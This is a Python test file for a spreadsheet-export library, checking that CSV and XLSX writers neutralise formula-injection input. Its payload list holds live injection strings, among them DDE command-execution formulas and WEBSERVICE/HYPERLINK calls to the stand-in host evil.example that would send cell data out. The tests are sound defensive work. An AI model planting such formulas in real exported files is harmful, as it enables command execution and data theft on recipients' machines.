"""Whatever leaves in a table is inert in a spreadsheet, exact, and reads back."""

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from counterfoil.foundation.tabular import (
    Column,
    ColumnKind,
    NotWritable,
    Row,
    guarded,
    open_table,
    unguarded,
    write_csv,
    write_xlsx,
)

COLUMNS = [Column("Partner"), Column("Amount", ColumnKind.NUMBER)]

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example","Invoice")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML("http://evil.example","//a")',
    '=IMPORTRANGE("x","A1")',
    '=1+1","=2+2',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-@SUM(1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\tplain",
    "\r=1+1",
    "\rplain",
    "\n=1+1",
    "\nplain",
    "\r\n=1+1",
    "\x00=1+1",
    "\x00plain",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " =1+1",
    "   @A1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    " \t=1+1",
    "=\u202e1+1",
    "==1",
    "=+-@",
    "=" + "A" * 5000,
    "-",
    "@",
]

INNOCENT = ["Brückner GmbH", "O'Neil", "12.50", "a=b", "a-b", "", "'quoted'", "  spaced", "1.10"]


def csv_of(rows, columns=COLUMNS):
    out = io.BytesIO()
    write_csv(out, columns, rows)
    return out.getvalue()


def xlsx_of(rows, columns=COLUMNS):
    out = io.BytesIO()
    write_xlsx(out, columns, rows)
    return out.getvalue()


def parsed(data):
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def is_formula(text):
    """What spreadsheets run: a formula start after blanks that they skip or drop."""
    if text.startswith("\x00"):
        return True
    return text.lstrip(" \u00a0\u3000\ufeff\u200b")[:1] in set("=+-@\t\r\n＝＋－＠")


def test_there_are_at_least_forty_payloads_and_each_one_is_live():
    assert len(PAYLOADS) >= 40
    assert all(is_formula(payload) for payload in PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_leaves_csv_as_text(payload):
    cell = parsed(csv_of([(payload, 1)]))[1][0]

    assert cell.startswith("'")
    assert "\x00" not in cell


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_leaves_a_workbook_as_a_string(payload):
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_of([(payload, 1)]))).active

    assert sheet["A2"].data_type in ("s", "inlineStr")
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    assert not sheet._hyperlinks


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_planted_writer_without_a_guard_lets_the_payload_through(payload):
    out = io.StringIO()
    csv.writer(out).writerow([payload])

    assert is_formula(next(csv.reader(io.StringIO(out.getvalue(), newline="")))[0])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_a_number_column_is_refused_with_its_place(payload):
    with pytest.raises(NotWritable, match=r"row 1, column 'Amount'"):
        csv_of([("Acme", payload)])
    with pytest.raises(NotWritable, match=r"row 1, column 'Amount'"):
        xlsx_of([("Acme", payload)])


def test_a_heading_is_guarded_as_well():
    assert parsed(csv_of([], [Column("=1+1")]))[0] == ["'=1+1"]


def test_a_negative_amount_stays_a_number():
    assert b'"Acme",-12.50\r\n' in csv_of([("Acme", "-12.50")])
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_of([("Acme", Decimal("-12.50"))]))).active
    assert sheet["B2"].value == -12.5


@pytest.mark.parametrize("text", INNOCENT)
def test_innocent_text_is_written_as_it_is(text):
    assert parsed(csv_of([(text, None)]))[1][0] == text


@given(st.text(alphabet=st.characters(exclude_characters="\x00", exclude_categories=["Cs"])))
def test_the_guard_comes_off_again(text):
    assert unguarded(guarded(text)) == text or text.startswith("'")


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"])))
def test_no_text_at_all_leaves_as_a_formula(text):
    assert not is_formula(guarded(text)) or guarded(text) == ""


def test_a_long_account_number_keeps_its_digits_in_a_workbook():
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_of([("x", 12345678901234567890)]))).active

    assert sheet["B2"].value == "12345678901234567890"


@pytest.mark.parametrize("value", [1.5, True, "1,5", "1e5", "٣", "1_0", "--1", "NaN"])
def test_what_is_no_exact_figure_is_refused_in_a_number_column(value):
    with pytest.raises(NotWritable):
        csv_of([("x", value)])


def test_a_float_is_refused_in_a_text_column_too():
    with pytest.raises(NotWritable, match="float"):
        csv_of([(1.5, 1)])


def test_a_row_of_another_width_is_refused():
    with pytest.raises(NotWritable, match="row 1 has 1 cells for 2 columns"):
        csv_of([("only",)])


def test_equal_tables_are_equal_bytes():
    rows = [("Acme", 1), ("=x", "-2.00"), (date(2026, 1, 31), None)]

    assert xlsx_of(rows) == xlsx_of(rows)
    assert csv_of(rows) == csv_of(rows)


@given(
    st.lists(
        st.tuples(
            st.text(
                alphabet=st.characters(exclude_categories=["Cs", "Cc"]), min_size=1, max_size=30
            ),
            st.integers(-(10**12), 10**12),
        ),
        min_size=1,
        max_size=8,
    )
)
def test_what_the_writer_wrote_the_reader_reads(rows):
    table = open_table(csv_of(rows), name="own.csv", delimiter=",")

    found = [row.cells for row in table.rows() if isinstance(row, Row)]

    assert [(unguarded(text), int(number)) for text, number in found] == [
        (unguarded(guarded(text)), number) for text, number in rows
    ]
